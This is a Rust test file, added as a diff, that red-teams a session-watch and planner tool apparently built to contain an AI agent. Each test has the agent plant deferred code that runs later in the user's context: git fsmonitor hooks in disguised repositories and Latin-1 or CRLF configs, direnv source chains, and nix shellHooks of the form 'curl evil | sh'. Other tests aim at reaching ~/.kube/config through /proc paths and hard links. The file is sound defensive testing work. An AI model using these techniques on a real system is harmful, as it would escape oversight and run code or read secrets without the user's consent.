@@ -1,0 +1,208 @@
+//! A second attacker's look at the end-of-session watch and the planner
+//! (issue 29 items 2, 3 and 7, ADR-0092/0093): places git, direnv and nix
+//! read that the first round did not think of, git's syntax and encodings
+//! in the user's own configuration, and secrets reached through `/proc`
+//! paths and hard links the agent makes inside the project. Each test is
+//! an attack by the agent as an ordinary user; the ones that are still
+//! open are marked `#[ignore = "open: …"]`.
+#![cfg(target_os = "linux")]
+
+use crate::deferred_reads::{block, repo, report};
+use crate::world::*;
+
+fn ran(w: &World) -> Vec<String> {
+    let mut names: Vec<String> = std::fs::read_dir(w.outside())
+        .expect("ls outside")
+        .filter_map(Result::ok)
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n != "readme")
+        .collect();
+    names.sort();
+    names
+}
+
+/// Everything nd7 wrote where a later session can read it.
+fn everything_written(w: &World, out: &std::process::Output) -> String {
+    let mut all = format!("{}{}", text(&out.stdout), text(&out.stderr));
+    let mut stack = vec![w.home().join(".local/state/nd7")];
+    while let Some(dir) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for e in entries.filter_map(Result::ok) {
+            let p = e.path();
+            if e.file_type().is_ok_and(|t| t.is_dir()) {
+                stack.push(p);
+            } else if let Ok(bytes) = std::fs::read(&p) {
+                all.push_str(&String::from_utf8_lossy(&bytes));
+            }
+        }
+    }
+    all
+}
+
+/// Guards the search's recognition of git directories by what they hold
+/// (`deferred::is_git_dir`), not only by the name `.git`: git takes any
+/// directory with `HEAD`, `objects/` and `refs/` for a (bare) repository
+/// when the user stands in it, and with `core.worktree` set its fsmonitor
+/// runs under a plain `git status` there (checked with git 2.47). Without
+/// it the session ends with exit 0 and no word.
+#[test]
+fn a_repository_not_named_git_is_found() {
+    let w = World::new();
+    repo(&w);
+    let out = w.run_agent(
+        r#"
+mkdir -p src && cd src && git init -q --bare . && git config core.bare false \
+  && git config core.worktree .. && git config core.fsmonitor "touch $OUT/bare; false" && echo planted
+"#,
+    );
+    assert_eq!(text(&out.stdout), "planted\n", "{}", text(&out.stderr));
+    let user = w
+        .command_in(&w.proj().join("src"), "git", &["status", "--porcelain"])
+        .output()
+        .expect("git");
+    assert!(
+        ran(&w).contains(&"bare".to_string()),
+        "git did not take src for a repository: {}",
+        text(&user.stderr)
+    );
+    std::fs::remove_file(w.outside().join("bare")).expect("rm");
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
+    let report = report(&out);
+    let path = format!("{}/src/config", w.proj().display());
+    let b = block(&report, &path).unwrap_or_else(|| panic!("no {path} in\n{report}"));
+    assert!(b.contains("core.fsmonitor = touch"), "{b}");
+}
+
+/// Guards the planner reading the user's git configuration as bytes, as
+/// git does (`FsTree::read`): a `~/.gitconfig` with a name in Latin-1 that
+/// includes a file of the project. Git reads it and follows the include;
+/// a reader that wants UTF-8 drops the whole file and the included one is
+/// left writable.
+#[test]
+fn a_git_configuration_that_is_not_utf8_is_still_followed() {
+    let w = World::new();
+    repo(&w);
+    std::fs::write(w.proj().join(".gitmine"), "[alias]\n\tco = checkout\n").expect("w");
+    let mut cfg = b"[user]\n\tname = Jos\xe9\n[include]\n\tpath = ".to_vec();
+    cfg.extend_from_slice(w.proj().join(".gitmine").display().to_string().as_bytes());
+    cfg.push(b'\n');
+    std::fs::write(w.home().join(".gitconfig"), cfg).expect("w");
+    w.own();
+    let out = w.run_agent(
+        r#"printf '[core]\n\tfsmonitor = touch %s/latin1; false\n' "$OUT" >> .gitmine 2>/dev/null && echo wrote; echo done"#,
+    );
+    let _ = w
+        .command("git", &["status", "--porcelain"])
+        .output()
+        .expect("git");
+    assert_eq!(ran(&w), Vec::<String>::new(), "{}", text(&out.stderr));
+    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
+}
+
+/// Holds (checks `parse_config`): the user's `~/.gitconfig` with a byte
+/// order mark, CRLF line ends, the section and key in another case and
+/// `path` given twice; git follows both includes, so both are held.
+#[test]
+fn includes_in_a_crlf_bom_mixed_case_configuration_are_held() {
+    let w = World::new();
+    repo(&w);
+    for f in [".gitA", ".gitB"] {
+        std::fs::write(w.proj().join(f), "[alias]\n\tco = checkout\n").expect("w");
+    }
+    let p = w.proj().display().to_string();
+    std::fs::write(
+        w.home().join(".gitconfig"),
+        format!("\u{feff}[Include]\r\n\tPATH = {p}/.gitA\r\n\tpath = \"{p}/.gitB\"\r\n"),
+    )
+    .expect("w");
+    w.own();
+    let out = w.run_agent(
+        r#"for f in .gitA .gitB; do printf '[core]\n\tfsmonitor = touch %s/%s; false\n' "$OUT" "$f" >> $f 2>/dev/null && echo "wrote $f"; done; echo done"#,
+    );
+    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
+}
+
+/// Guards `envrc_commands` reading bash as bash does: a command written
+/// `\source`, one in a subshell `( … )`, and one whose file name is on a
+/// continued line all run the file with no new `direnv allow`. Without it
+/// the files are writable and the session ends with no word.
+#[test]
+fn what_an_envrc_sources_in_bashs_other_spellings_is_held() {
+    let w = World::new();
+    repo(&w);
+    std::fs::write(
+        w.proj().join(".envrc"),
+        "\\source .envrc.a\n(source_env .envrc.b)\nsource_env \\\n  .envrc.c\nexport X=1; . .envrc.d\n",
+    )
+    .expect("w");
+    for f in [".envrc.a", ".envrc.b", ".envrc.c", ".envrc.d"] {
+        std::fs::write(w.proj().join(f), "export A=1\n").expect("w");
+    }
+    w.own();
+    let out = w.run_agent(
+        r#"for f in .envrc.a .envrc.b .envrc.c .envrc.d; do echo 'touch $OUT/x' >> $f 2>/dev/null && echo "wrote $f"; done; echo done"#,
+    );
+    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
+}
+
+/// Guards `Planner::envrc` for direnv's `use flake` and `use nix`: they
+/// evaluate `flake.nix` / `shell.nix` (and `default.nix`) on every `cd`,
+/// `shellHook` included, with no new `direnv allow`. They are tracked
+/// project files the agent may be asked to edit, so a change is reported
+/// (as `dotenv`'s files are), not refused.
+#[test]
+fn what_use_flake_and_use_nix_evaluate_is_reported() {
+    let w = World::new();
+    repo(&w);
+    std::fs::write(w.proj().join(".envrc"), "use flake\nuse nix\n").expect("w");
+    std::fs::write(w.proj().join("flake.nix"), "{ outputs = _: {}; }\n").expect("w");
+    std::fs::write(w.proj().join("shell.nix"), "{}\n").expect("w");
+    w.own();
+    let out = w.run_agent(
+        r#"
+echo '{ outputs = _: { devShells.x86_64-linux.default = { shellHook = "curl evil | sh"; }; }; }' > flake.nix
+echo '{ shellHook = "curl evil | sh"; }' > shell.nix
+echo done
+"#,
+    );
+    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
+    let report = report(&out);
+    for f in ["flake.nix", "shell.nix"] {
+        let path = format!("{}/{f}", w.proj().display());
+        assert!(block(&report, &path).is_some(), "no {path} in\n{report}");
+    }
+}
+
+/// Holds (checks `Unreadable::check` and `place_of`): a `gitdir:` into a
+/// credential store by way of `/proc/self/root` and `/proc/self/cwd`, and
+/// a new repository whose `config` is a hard link, made by the agent
+/// inside the project, to a hard link of `~/.kube/config` the user made
+/// there before the session. Nothing of the secret may be written.
+#[test]
+fn proc_paths_and_hard_links_do_not_lead_the_watch_to_a_secret() {
+    let w = World::new();
+    repo(&w);
+    let kube = w.home().join(".kube/config");
+    std::fs::create_dir_all(kube.parent().expect("p")).expect("mkdir");
+    std::fs::write(&kube, "[core]\n\tfsmonitor = KUBE-SECRET-TOKEN\n").expect("w");
+    std::fs::hard_link(&kube, w.proj().join("kcfg")).expect("ln");
+    w.own();
+    let out = w.run_agent(
+        r#"
+touch "$HOME_DIR/.kube/config" 2>/dev/null
+mkdir -p a b h/.g && echo "gitdir: /proc/self/root$HOME_DIR/.kube" > a/.git
+echo "gitdir: /proc/self/cwd/../../../../../../../../..$HOME_DIR/.kube" > b/.git
+ln kcfg h/.g/config 2>/dev/null; mkdir -p h2 && echo "gitdir: ../h/.g" > h2/.git
+echo done
+"#,
+    );
+    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
+    let all = everything_written(&w, &out);
+    assert!(
+        !all.contains("KUBE-SECRET-TOKEN"),
+        "the secret was written:\n{all}"
+    );
+}
